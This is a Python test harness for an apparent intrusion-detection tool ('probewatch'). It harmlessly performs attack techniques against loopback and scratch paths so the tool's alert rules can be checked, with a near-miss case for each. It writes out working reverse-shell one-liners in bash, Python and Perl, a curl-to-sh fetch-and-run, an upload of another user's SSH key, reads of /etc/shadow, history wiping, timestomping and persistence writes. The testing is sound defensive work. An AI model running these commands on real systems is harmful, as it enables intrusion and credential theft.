"""Perform attack techniques for real (and harmlessly) so the shipped rules can be tested.

Run under ``probewatch watch --json -- python run.py --ctx CTX.json --log LOG NAME...``:
each NAME runs in its own forked child (so an alert can be traced back to the behaviour
by the pids in its ancestry) and one line ``NAME PID RC`` is appended to LOG.

BEHAVIORS maps a name to (function, expected rule file stems): a non-empty set is a
positive (exactly those rules must alert), an empty one a near miss (nothing may alert).
Everything works in the scratch directory prepared by ``make_context`` (a fake HOME, a
venv without pip, a preload library), on the behaviour's own children, on a victim home
under /home that the test creates and removes, or is an attempt that fails on purpose
(opening a system file for writing without O_CREAT and writing nothing). Each behaviour
cleans up after itself.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from forked import run_each  # noqa: E402

HERE = Path(__file__).resolve().parent
PY = sys.executable


class Ctx:
    """What the behaviours need: paths prepared by the test, a loopback listener port."""

    def __init__(self, d: dict[str, Any]) -> None:
        self.behave: str = d["behave"]
        self.scratch = Path(d["scratch"])
        self.home = Path(d["home"])
        self.site = Path(d["site"])
        self.preload: str = d["preload"]
        self.victim_home = Path(d["victim_home"])
        self.port: int = d.get("port", 0)

    def env(self, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items()
               if not k.startswith(("LD_", "HIST")) and k != "PROMPT_COMMAND"}
        env["HOME"] = str(self.home)
        env.update(extra)
        return env

    def run(self, argv: list[str], *, check: bool = False, **kw: Any) -> int:
        kw.setdefault("env", self.env())
        kw.setdefault("stdout", subprocess.DEVNULL)
        kw.setdefault("stderr", subprocess.DEVNULL)
        kw.setdefault("timeout", 20)
        r = subprocess.run(argv, check=check, **kw)
        return r.returncode

    def b(self, *args: str) -> int:
        return self.run([self.behave, *args])

    def sh(self, script: str, **kw: Any) -> int:
        return self.run(["/bin/sh", "-c", script], **kw)


def _write(path: Path, text: str) -> None:
    with open(path, "a") as f:
        f.write(text)


def _tmpdir(prefix: str, base: str = "/tmp") -> Path:
    return Path(tempfile.mkdtemp(prefix=prefix, dir=base))


# ---------------------------------------------------------------- behaviours

def ptrace_traceme(c: Ctx) -> None:
    c.b("ptrace-traceme")


def ptrace_attach(c: Ctx) -> None:
    c.b("ptrace-attach")


def ptrace_poke(c: Ctx) -> None:
    c.b("ptrace-poke")


def ptrace_peek(c: Ctx) -> None:
    c.b("ptrace-peek")


def procmem_write(c: Ctx) -> None:
    c.b("procmem-write")


def procmem_child(c: Ctx) -> None:
    c.b("procmem-child")


def procmem_read(c: Ctx) -> None:
    c.b("procmem-read")


def vm_writev(c: Ctx) -> None:
    c.b("vm-writev")


def vm_readv(c: Ctx) -> None:
    c.b("vm-readv")


def memfd_exec(c: Ctx) -> None:
    c.b("memfd-exec")


def memfd_noexec(c: Ctx) -> None:
    c.b("memfd-noexec")


def ld_preload(c: Ctx) -> None:
    c.run(["/bin/true"], env=c.env(LD_PRELOAD=c.preload))


def ld_library_path(c: Ctx) -> None:
    c.run(["/bin/true"], env=c.env(LD_LIBRARY_PATH=str(Path(c.preload).parent)))


def ld_so_preload_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/ld.so.preload")


def ld_so_conf_read(c: Ctx) -> None:
    c.b("open-read", "/etc/ld.so.conf")


def shadow_read(c: Ctx) -> None:
    c.run(["cat", "/etc/shadow"])


def passwd_read(c: Ctx) -> None:
    c.run(["cat", "/etc/passwd"])


def ssh_key_other_user(c: Ctx) -> None:
    c.run(["cat", str(c.victim_home / ".ssh" / "id_ed25519")])


def authorized_keys_other_user(c: Ctx) -> None:
    c.run(["cat", str(c.victim_home / ".ssh" / "authorized_keys")])


def ssh_pubkey_other_user(c: Ctx) -> None:
    c.run(["cat", str(c.victim_home / ".ssh" / "id_ed25519.pub")])


def module_syscalls(c: Ctx) -> None:
    c.b("finit-module")


def module_delete(c: Ctx) -> None:
    c.b("delete-module")


def insmod(c: Ctx) -> None:
    c.run(["insmod", str(c.scratch / "pw_no_such_module.ko")])


def modprobe_dry_run(c: Ctx) -> None:
    c.run(["modprobe", "-n", "pw_no_such_module"])


def bpf_load(c: Ctx) -> None:
    c.b("bpf-load")


def bpf_map(c: Ctx) -> None:
    c.b("bpf-map")


def chmod_setuid(c: Ctx) -> None:
    f = c.scratch / "suid-target"
    f.write_bytes(b"")
    c.run(["chmod", "u+s", str(f)])
    f.unlink()


def chmod_plain(c: Ctx) -> None:
    f = c.scratch / "plain-target"
    f.write_bytes(b"")
    c.run(["chmod", "0755", str(f)])
    c.run(["chmod", "1777", str(f)])  # sticky alone is not setuid/setgid
    f.unlink()


def setcap(c: Ctx) -> None:
    f = c.scratch / "cap-target"
    f.write_bytes(b"")
    c.run(["setcap", "cap_net_raw+ep", str(f)])
    f.unlink()


def user_xattr(c: Ctx) -> None:
    f = c.scratch / "xattr-target"
    f.write_bytes(b"")
    try:
        os.setxattr(f, "user.probewatch", b"1")
    except OSError:
        pass
    f.unlink()


def histfile_devnull_env(c: Ctx) -> None:
    c.run(["/bin/true"], env=c.env(HISTFILE="/dev/null"))


def histsize_normal_env(c: Ctx) -> None:
    c.run(["/bin/true"], env=c.env(HISTSIZE="1000", HISTFILE=str(c.home / ".bash_history")))


def history_clear(c: Ctx) -> None:
    c.run(["bash", "-c", "history -c"])


def history_list(c: Ctx) -> None:
    c.run(["bash", "-c", "history | tail -n 1"])


def history_symlink_devnull(c: Ctx) -> None:
    c.run(["ln", "-sf", "/dev/null", str(c.home / ".bash_history")])


def _home_with_history(c: Ctx) -> Path:
    home = c.scratch / f"home-{os.getpid()}"
    home.mkdir()
    with open(home / ".bash_history", "x") as f:  # O_EXCL, no O_TRUNC
        f.write("ls\n")
    return home


def history_truncate_cp(c: Ctx) -> None:
    home = _home_with_history(c)
    c.run(["cp", "/dev/null", str(home / ".bash_history")])


def history_truncate_redirect(c: Ctx) -> None:
    home = _home_with_history(c)
    c.run(["bash", "-c", ': > "$HOME/.bash_history"'], env=c.env(HOME=str(home)))


def history_rm(c: Ctx) -> None:
    home = _home_with_history(c)
    c.run(["rm", "-f", str(home / ".bash_history")])


def history_shred(c: Ctx) -> None:
    home = _home_with_history(c)
    c.run(["shred", "-u", str(home / ".bash_history")])


def history_tree_removed(c: Ctx) -> None:
    home = _home_with_history(c)
    c.run(["rm", "-rf", str(home)])
    home = _home_with_history(c)
    shutil.rmtree(home)


def history_interactive_exit(c: Ctx) -> None:
    home = c.scratch / f"home-{os.getpid()}"
    home.mkdir()
    # an interactive shell writes its history at exit, creating the file (O_TRUNC)
    c.run(["bash", "--norc", "-i"], input=b"echo hi\nexit\n", env=c.env(HOME=str(home)))


def history_append(c: Ctx) -> None:
    c.run(["bash", "-c", 'echo "ls -l" >> "$HOME/.bash_history"'])
    c.run(["ln", "-sf", "/dev/null", str(c.home / "notes.txt")])


class Listener:
    """A loopback TCP server: for each connection send 'exit', read to EOF, close."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()

    @staticmethod
    def _talk(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(10)
            try:
                conn.sendall(b"exit\n")
                while conn.recv(4096):
                    pass
            except OSError:
                pass

    def close(self) -> None:
        self.sock.close()


def reverse_shell_c(c: Ctx) -> None:
    c.b("revshell", "127.0.0.1", str(c.port))


def connect_then_shell(c: Ctx) -> None:
    c.b("connect-exec", "127.0.0.1", str(c.port))


def reverse_shell_bash_devtcp(c: Ctx) -> None:
    c.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{c.port} 0>&1"])


def reverse_shell_python_pty(c: Ctx) -> None:
    code = (f"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{c.port}));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')")
    c.run([PY, "-c", code])


def bash_devtcp_probe(c: Ctx) -> None:
    c.run(["bash", "-c", f"echo probe > /dev/tcp/127.0.0.1/{c.port}"])


def reverse_shell_python_child(c: Ctx) -> None:
    # a script (its command line says nothing) that connects, puts the socket on 0-2 and
    # spawns the shell in a child: no connect/dup/exec sequence within one process
    script = c.scratch / f"sync_helper_{os.getpid()}.py"
    script.write_text(
        "import os, socket, subprocess\n"
        f"s = socket.create_connection(('127.0.0.1', {c.port}))\n"
        "for fd in (0, 1, 2):\n"
        "    os.dup2(s.fileno(), fd)\n"
        "subprocess.call(['/bin/sh', '-i'])\n")
    try:
        c.run([PY, str(script)])
    finally:
        script.unlink()


def shell_on_unix_socketpair(c: Ctx) -> None:
    # near miss: a shell whose stdin/stdout are a local socketpair (as some supervisors
    # and test harnesses give), not a network connection
    script = c.scratch / f"pair_{os.getpid()}.py"
    script.write_text(
        "import socket, subprocess\n"
        "a, b = socket.socketpair()\n"
        "b.sendall(b'exit\\n')\n"
        "subprocess.call(['/bin/sh', '-c', 'read x; true'], stdin=a, stdout=a)\n")
    try:
        c.run([PY, str(script)])
    finally:
        script.unlink()


def python_connect_only(c: Ctx) -> None:
    code = (f"import socket;s=socket.create_connection(('127.0.0.1',{c.port}));"
            "s.recv(16);s.close()")
    c.run([PY, "-c", code])


def python_pty_spawn(c: Ctx) -> None:
    c.run([PY, "-c", "import pty;pty.spawn('/bin/sh')"], input=b"exit\n",
          stdout=subprocess.DEVNULL)


def script_pty_devnull(c: Ctx) -> None:
    c.run(["script", "-qc", "/bin/true", "/dev/null"])


def perl_exec_shell(c: Ctx) -> None:
    c.run(["perl", "-e", 'exec "/bin/sh -i";'], input=b"exit\n")


def python_pty_module(c: Ctx) -> None:
    c.run([PY, "-c", "import pty;print(pty.STDIN_FILENO)"])


def script_to_file(c: Ctx) -> None:
    log = c.scratch / "typescript"
    c.run(["script", "-qc", "/bin/true", str(log)])
    log.unlink(missing_ok=True)


def crontab_spool(c: Ctx) -> None:
    made = []
    d = Path("/var/spool/cron/crontabs")
    for p in (d.parent, d):
        if not p.exists():
            p.mkdir()
            made.append(p)
    tab = d / f"pwtest-{os.getpid()}"
    try:
        c.sh(f"echo '# probewatch test, never run' > {tab}")
    finally:
        tab.unlink(missing_ok=True)
        for p in reversed(made):
            p.rmdir()


def crontab_elsewhere(c: Ctx) -> None:
    tab = c.scratch / "crontab"
    c.sh(f"echo '# not a crontab location' > {tab}")
    tab.unlink()


def bashrc_append(c: Ctx) -> None:
    c.sh(f"echo '# probewatch test' >> {c.home / '.bashrc'}")


def bashrc_backup_write(c: Ctx) -> None:
    c.sh(f"cat {c.home / '.bashrc'} > {c.home / '.bashrc.bak'}")


def user_systemd_unit(c: Ctx) -> None:
    d = c.home / ".config" / "systemd" / "user"
    d.mkdir(parents=True, exist_ok=True)
    c.sh(f"printf '[Service]\\nExecStart=/bin/true\\n' > {d / 'pw-test.service'}")


def unit_elsewhere(c: Ctx) -> None:
    d = c.home / ".config" / "pw-other"
    d.mkdir(parents=True, exist_ok=True)
    c.sh(f"printf '[Service]\\n' > {d / 'pw-test.service'}")


def pth_hook(c: Ctx) -> None:
    c.sh(f"echo 'import os' > {c.site / 'pw_hook.pth'}")
    (c.site / "pw_hook.pth").unlink()


def site_packages_text(c: Ctx) -> None:
    c.sh(f"echo 'notes' > {c.site / 'pw_notes.txt'}")
    (c.site / "pw_notes.txt").unlink()


def rc_local_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/rc.local")


def etc_other_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/pw-not-an-rc-file")


def authorized_keys_write(c: Ctx) -> None:
    d = c.home / ".ssh"
    d.mkdir(mode=0o700, exist_ok=True)
    c.sh(f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPW pw@test' >> {d / 'authorized_keys'}")


def known_hosts_write(c: Ctx) -> None:
    d = c.home / ".ssh"
    d.mkdir(mode=0o700, exist_ok=True)
    c.sh(f"echo 'localhost ssh-ed25519 AAAAC3Nz' >> {d / 'known_hosts'}")


def download_then_execute(c: Ctx) -> None:
    d = _tmpdir("pwdl-")
    try:
        payload = d / "payload"
        c.run(["curl", "-s", "-o", str(payload), "file:///bin/true"])
        c.run(["chmod", "0755", str(payload)])
        c.run([str(payload)])
    finally:
        shutil.rmtree(d)


def download_only_and_tmp_build(c: Ctx) -> None:
    d = _tmpdir("pwdl-")
    try:
        c.run(["curl", "-s", "-o", str(d / "data"), "file:///bin/true"])
        tool = d / "build" / "tool"
        tool.parent.mkdir()
        shutil.copy("/bin/true", tool)
        c.run([str(tool)])
    finally:
        shutil.rmtree(d)


def exec_from_dev_shm(c: Ctx) -> None:
    p = Path("/dev/shm") / f"pw-{os.getpid()}"
    shutil.copy("/bin/true", p)
    try:
        c.run([str(p)])
    finally:
        p.unlink()


def argv0_spoof(c: Ctx) -> None:
    c.run(["cron", "-f"], executable="/bin/true")


def argv0_relative(c: Ctx) -> None:
    tool = c.scratch / "tool"
    shutil.copy("/bin/true", tool)
    c.run(["./tool"], cwd=str(c.scratch))
    c.run(["true"])
    c.run(["-bash"], executable="/bin/true")  # login-shell style
    tool.unlink()


def prctl_rename_python(c: Ctx) -> None:
    c.run([PY, "-c", "import ctypes;ctypes.CDLL(None).prctl(15,b'pw-daemon',0,0,0)"])


def prctl_kthread_python(c: Ctx) -> None:
    c.run([PY, "-c", "import ctypes;ctypes.CDLL(None).prctl(15,b'kworker/0:1',0,0,0)"])


def prctl_kthread_compiled(c: Ctx) -> None:
    c.b("prctl-name", "kworker/u8:2")


def prctl_rename_compiled(c: Ctx) -> None:
    c.b("prctl-name", "pw-worker")


def kernel_thread_name(c: Ctx) -> None:
    c.run(["[kworker/0:1H]", "5"], executable="/bin/true")


def sniff(c: Ctx) -> None:
    c.b("sniff")


def packet_no_filter(c: Ctx) -> None:
    c.b("packet-nofilter")
    c.b("udp-filter")


def touch_date(c: Ctx) -> None:
    f = c.scratch / "stomped"
    c.run(["touch", "-d", "2001-09-09 01:46:40", str(f)])
    f.unlink(missing_ok=True)


def touch_plain(c: Ctx) -> None:
    f = c.scratch / "touched"
    c.run(["touch", str(f)])
    f.unlink(missing_ok=True)


def utimes_explicit(c: Ctx) -> None:
    f = c.scratch / "stomped2"
    f.write_bytes(b"")
    c.b("utimes", str(f))
    f.unlink()


def utimes_now(c: Ctx) -> None:
    f = c.scratch / "touched2"
    f.write_bytes(b"")
    c.b("utimes-now", str(f))
    f.unlink()


def discovery_burst(c: Ctx) -> None:
    c.sh("whoami; id; uname -a; hostname; ps -e; ip addr; cat /etc/os-release; true")


def discovery_few(c: Ctx) -> None:
    c.sh("whoami; id; uname -a; true")


def sudoers_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/sudoers.d/pw-test")


def passwd_append_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/passwd")


def udev_rule_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/udev/rules.d/99-pw-test.rules")


def modules_load_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/modules-load.d/pw-test.conf")


def modules_load_read(c: Ctx) -> None:
    c.b("open-read", "/etc/modules-load.d/modules.conf")
    c.b("open-write", "/etc/udev/pw-not-a-rule")


def sysctl_aslr_attempt(c: Ctx) -> None:
    c.b("open-write", "/proc/sys/kernel/randomize_va_space")


def sysctl_read(c: Ctx) -> None:
    c.run(["cat", "/proc/sys/kernel/randomize_va_space"])


def ptrace_seize(c: Ctx) -> None:
    c.b("ptrace-seize")


def chmod_setgid(c: Ctx) -> None:
    f = c.scratch / "sgid-target"
    f.write_bytes(b"")
    c.run(["chmod", "g+s", str(f)])
    f.unlink()


def ld_audit(c: Ctx) -> None:
    c.run(["/bin/true"], env=c.env(LD_AUDIT=c.preload))


def reverse_shell_perl(c: Ctx) -> None:
    code = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            f'connect(S,sockaddr_in({c.port},inet_aton("127.0.0.1"))) or die;'
            'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");')
    c.run(["perl", "-e", code])


def kernel_thread_file(c: Ctx) -> None:
    d = c.scratch / f"kt-{os.getpid()}"
    d.mkdir()
    exe = d / "[kswapd0]"
    shutil.copy("/bin/true", exe)
    c.run([str(exe)])
    shutil.rmtree(d)


def exec_from_hidden_tmp(c: Ctx) -> None:
    d = _tmpdir(".pw-")
    try:
        shutil.copy("/bin/true", d / "agent")
        c.run([str(d / "agent")])
    finally:
        shutil.rmtree(d)


def cron_d_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/cron.d/pw-test")


def profile_d_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/profile.d/pw-test.sh")


def system_unit_attempt(c: Ctx) -> None:
    c.b("open-write", "/etc/systemd/system/pw-test.service")


def sitecustomize(c: Ctx) -> None:
    c.sh(f"echo 'import os' > {c.site / 'sitecustomize.py'}")
    (c.site / "sitecustomize.py").unlink()


# -- the user-space layer: lines typed into an interactive bash, TLS plaintext


def _typed(c: Ctx, *lines: str) -> None:
    """Type LINES into an interactive bash on a pty (its readline reads them), then exit."""
    import pty
    import time

    pid, fd = pty.fork()
    if pid == 0:
        env = c.env(TERM="dumb")
        os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "-i"], env)
    try:
        time.sleep(0.3)
        for line in lines:
            os.write(fd, line.encode() + b"\n")
            time.sleep(0.8)
        os.write(fd, b"exit\n")
        end = time.monotonic() + 15
        while time.monotonic() < end:
            try:
                if not os.read(fd, 4096):
                    break
            except OSError:
                break
    finally:
        os.waitpid(pid, 0)
        os.close(fd)


class TlsServer:
    """A loopback HTTPS server in this process (self-signed certificate made here) that
    answers every request with 200 and an empty body."""

    def __init__(self, c: Ctx) -> None:
        import http.server
        import ssl

        cert, key = c.scratch / "tls-cert.pem", c.scratch / "tls-key.pem"
        if not cert.exists():
            subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
                            "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj",
                            "/CN=localhost"], check=True, capture_output=True)

        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", "0")))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *a: Any) -> None:
                pass

        self.srv = http.server.HTTPServer(("127.0.0.1", 0), H)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(str(cert), str(key))
        self.srv.socket = ctx.wrap_socket(self.srv.socket, server_side=True)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.srv.shutdown()
        self.srv.server_close()


def typed_reverse_shell(c: Ctx) -> None:
    # bash performs the /dev/tcp redirection itself: no argv shows it, the typed line does
    _typed(c, f"bash -i >& /dev/tcp/127.0.0.1/{c.port} 0>&1")


def typed_devtcp_words(c: Ctx) -> None:
    # near miss: the same words typed, but nothing connects
    _typed(c, f"echo 'bash -i >& /dev/tcp/127.0.0.1/{c.port} 0>&1' > /dev/null")


def typed_fetch_and_run(c: Ctx) -> None:
    # the listener answers "exit" (HTTP/0.9): the piped shell runs exactly that
    _typed(c, f"curl -s --http0.9 http://127.0.0.1:{c.port}/setup.sh | sh")


def typed_download_to_file(c: Ctx) -> None:
    _typed(c, f"curl -s --http0.9 -o /dev/null http://127.0.0.1:{c.port}/setup.sh")


def _upload(c: Ctx, path: Path) -> None:
    srv = TlsServer(c)
    try:
        c.run(["curl", "-sk", "--data-binary", f"@{path}",
               f"https://127.0.0.1:{srv.port}/upload"])
    finally:
        srv.close()


def private_key_over_tls(c: Ctx) -> None:
    # another user's SSH identity uploaded to an HTTPS endpoint
    _upload(c, c.victim_home / ".ssh" / "id_ed25519")


def certificate_over_tls(c: Ctx) -> None:
    # near miss: a .pem opened and sent over TLS, but it is a certificate
    _upload(c, c.scratch / "tls-cert.pem" if (c.scratch / "tls-cert.pem").exists()
            else _cert(c))


def _cert(c: Ctx) -> Path:
    TlsServer(c).close()  # makes the certificate
    return c.scratch / "tls-cert.pem"


Behavior = tuple[Callable[[Ctx], None], frozenset[str]]


def _p(f: Callable[[Ctx], None], *rules: str) -> Behavior:
    return (f, frozenset(rules))


#: name -> (function, the rule file stems that must alert; empty: a near miss)
BEHAVIORS: dict[str, Behavior] = {
    # ptrace
    "ptrace_traceme": _p(ptrace_traceme, "ptrace_traceme"),
    "ptrace_attach": _p(ptrace_attach, "ptrace_attach"),
    "ptrace_poke": _p(ptrace_poke, "ptrace_attach", "ptrace_poke"),
    "ptrace_seize": _p(ptrace_seize, "ptrace_attach"),
    "ptrace_peek": _p(ptrace_peek),
    # memory of other processes
    "procmem_write": _p(procmem_write, "proc_mem_write"),
    "procmem_child": _p(procmem_child, "proc_mem_write"),
    "procmem_read": _p(procmem_read),
    "vm_writev": _p(vm_writev, "process_vm_writev"),
    "vm_readv": _p(vm_readv),
    # fileless (a memfd image never matches its argv[0])
    "memfd_exec": _p(memfd_exec, "fileless_exec_fd", "argv0_masquerade"),
    "memfd_noexec": _p(memfd_noexec),
    # dynamic linker
    "ld_preload": _p(ld_preload, "ld_preload_exec"),
    "ld_audit": _p(ld_audit, "ld_preload_exec"),
    "ld_library_path": _p(ld_library_path),
    "ld_so_preload_attempt": _p(ld_so_preload_attempt, "ld_so_preload_write"),
    "ld_so_conf_read": _p(ld_so_conf_read),
    # credentials
    "shadow_read": _p(shadow_read, "shadow_read"),
    "passwd_read": _p(passwd_read),
    "ssh_key_other_user": _p(ssh_key_other_user, "ssh_key_read_other_user"),
    "authorized_keys_other_user": _p(authorized_keys_other_user, "ssh_key_read_other_user"),
    "ssh_pubkey_other_user": _p(ssh_pubkey_other_user),
    # kernel modules, BPF
    "module_syscalls": _p(module_syscalls, "kernel_module_load_syscall"),
    "module_delete": _p(module_delete),
    "insmod": _p(insmod, "kernel_module_load_tool"),
    "modprobe_dry_run": _p(modprobe_dry_run),
    "bpf_load": _p(bpf_load, "bpf_program_load"),
    "bpf_map": _p(bpf_map),
    # privileges on files
    "chmod_setuid": _p(chmod_setuid, "setuid_setgid_bit"),
    "chmod_setgid": _p(chmod_setgid, "setuid_setgid_bit"),
    "chmod_plain": _p(chmod_plain),
    "setcap": _p(setcap, "file_capabilities_set"),
    "user_xattr": _p(user_xattr),
    # history
    "histfile_devnull_env": _p(histfile_devnull_env, "history_disabled_env"),
    "histsize_normal_env": _p(histsize_normal_env),
    "history_clear": _p(history_clear, "history_clear_command"),
    "history_list": _p(history_list),
    "history_symlink_devnull": _p(history_symlink_devnull, "history_file_tampering"),
    "history_truncate_cp": _p(history_truncate_cp, "history_file_tampering"),
    "history_truncate_redirect": _p(history_truncate_redirect, "history_file_tampering"),
    "history_rm": _p(history_rm, "history_file_deleted"),
    "history_shred": _p(history_shred, "history_clear_command", "history_file_tampering"),
    "history_tree_removed": _p(history_tree_removed),
    "history_interactive_exit": _p(history_interactive_exit),
    "history_append": _p(history_append),
    # reverse shells and shells on ptys
    "reverse_shell_c": _p(reverse_shell_c, "reverse_shell_sequence",
                          "reverse_shell_socket_stdio"),
    "connect_then_shell": _p(connect_then_shell),
    "reverse_shell_bash_devtcp": _p(reverse_shell_bash_devtcp, "reverse_shell_command_line",
                                    "reverse_shell_sequence", "shell_network_connection",
                                    "reverse_shell_socket_stdio"),
    "reverse_shell_python_pty": _p(reverse_shell_python_pty, "reverse_shell_command_line",
                                   "reverse_shell_socket_relay", "child_shell_after_connect"),
    "reverse_shell_perl": _p(reverse_shell_perl, "reverse_shell_command_line",
                             "reverse_shell_sequence", "reverse_shell_socket_stdio"),
    "bash_devtcp_probe": _p(bash_devtcp_probe, "shell_network_connection"),
    "python_connect_only": _p(python_connect_only),
    "reverse_shell_python_child": _p(reverse_shell_python_child, "reverse_shell_socket_stdio",
                                     "reverse_shell_socket_relay", "child_shell_after_connect"),
    "shell_on_unix_socketpair": _p(shell_on_unix_socketpair),
    "python_pty_spawn": _p(python_pty_spawn, "interpreter_pty_shell"),
    "script_pty_devnull": _p(script_pty_devnull, "interpreter_pty_shell"),
    "perl_exec_shell": _p(perl_exec_shell, "interpreter_pty_shell"),
    "python_pty_module": _p(python_pty_module),
    "script_to_file": _p(script_to_file),
    # typed into an interactive bash (readline), TLS plaintext
    "typed_reverse_shell": _p(typed_reverse_shell, "typed_reverse_shell",
                              "shell_network_connection", "reverse_shell_sequence",
                              "reverse_shell_socket_stdio"),
    "typed_devtcp_words": _p(typed_devtcp_words),
    "typed_fetch_and_run": _p(typed_fetch_and_run, "typed_download_pipe_shell",
                              "download_pipe_shell"),
    "typed_download_to_file": _p(typed_download_to_file),
    "private_key_over_tls": _p(private_key_over_tls, "private_key_sent_over_tls",
                               "ssh_key_read_other_user", "http_client_file_upload"),
    "certificate_over_tls": _p(certificate_over_tls),
    # persistence
    "crontab_spool": _p(crontab_spool, "cron_persistence"),
    "cron_d_attempt": _p(cron_d_attempt, "cron_persistence"),
    "crontab_elsewhere": _p(crontab_elsewhere),
    "bashrc_append": _p(bashrc_append, "shell_profile_persistence"),
    "profile_d_attempt": _p(profile_d_attempt, "shell_profile_persistence"),
    "bashrc_backup_write": _p(bashrc_backup_write),
    "user_systemd_unit": _p(user_systemd_unit, "systemd_unit_persistence"),
    "system_unit_attempt": _p(system_unit_attempt, "systemd_unit_persistence"),
    "unit_elsewhere": _p(unit_elsewhere),
    "pth_hook": _p(pth_hook, "python_startup_hook"),
    "sitecustomize": _p(sitecustomize, "python_startup_hook"),
    "site_packages_text": _p(site_packages_text),
    "rc_local_attempt": _p(rc_local_attempt, "rc_script_persistence"),
    "etc_other_attempt": _p(etc_other_attempt),
    "authorized_keys_write": _p(authorized_keys_write, "ssh_authorized_keys_write"),
    "known_hosts_write": _p(known_hosts_write),
    "sudoers_attempt": _p(sudoers_attempt, "sudoers_write"),
    "passwd_append_attempt": _p(passwd_append_attempt, "account_files_write"),
    "udev_rule_attempt": _p(udev_rule_attempt, "udev_rules_persistence"),
    "modules_load_attempt": _p(modules_load_attempt, "kernel_module_autoload_config"),
    "modules_load_read": _p(modules_load_read),
    "sysctl_aslr_attempt": _p(sysctl_aslr_attempt, "security_sysctl_weakened"),
    "sysctl_read": _p(sysctl_read),
    # staging in temporary directories
    "download_then_execute": _p(download_then_execute, "download_then_execute"),
    "download_only_and_tmp_build": _p(download_only_and_tmp_build),
    "exec_from_dev_shm": _p(exec_from_dev_shm, "exec_from_tmp_shm"),
    "exec_from_hidden_tmp": _p(exec_from_hidden_tmp, "exec_from_tmp_shm"),
    # masquerading
    "argv0_spoof": _p(argv0_spoof, "argv0_masquerade"),
    "argv0_relative": _p(argv0_relative),
    "prctl_rename_python": _p(prctl_rename_python, "prctl_rename_interpreter"),
    "prctl_kthread_python": _p(prctl_kthread_python, "prctl_kernel_thread_name"),
    "prctl_kthread_compiled": _p(prctl_kthread_compiled, "prctl_kernel_thread_name"),
    "prctl_rename_compiled": _p(prctl_rename_compiled),
    "kernel_thread_name": _p(kernel_thread_name, "kernel_thread_masquerade"),
    "kernel_thread_file": _p(kernel_thread_file, "kernel_thread_masquerade"),
    # sniffing
    "sniff": _p(sniff, "packet_socket_sniffing"),
    "packet_no_filter": _p(packet_no_filter),
    # timestomping
    "touch_date": _p(touch_date, "timestomp_touch"),
    "touch_plain": _p(touch_plain),
    "utimes_explicit": _p(utimes_explicit, "timestomp_syscall"),
    "utimes_now": _p(utimes_now),
    # discovery
    "discovery_burst": _p(discovery_burst, "discovery_burst"),
    "discovery_few": _p(discovery_few),
}


def main(argv: list[str]) -> int:
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("--ctx", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("names", nargs="+")
    a = ap.parse_args(argv)
    ctx = Ctx(json.loads(Path(a.ctx).read_text()))
    listener = Listener()
    ctx.port = listener.port
    unknown = [n for n in a.names if n not in BEHAVIORS]
    if unknown:
        print(f"unknown behaviours: {unknown}", file=sys.stderr)
        return 2
    run_each(a.names, lambda n: BEHAVIORS[n][0](ctx), a.log)
    listener.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
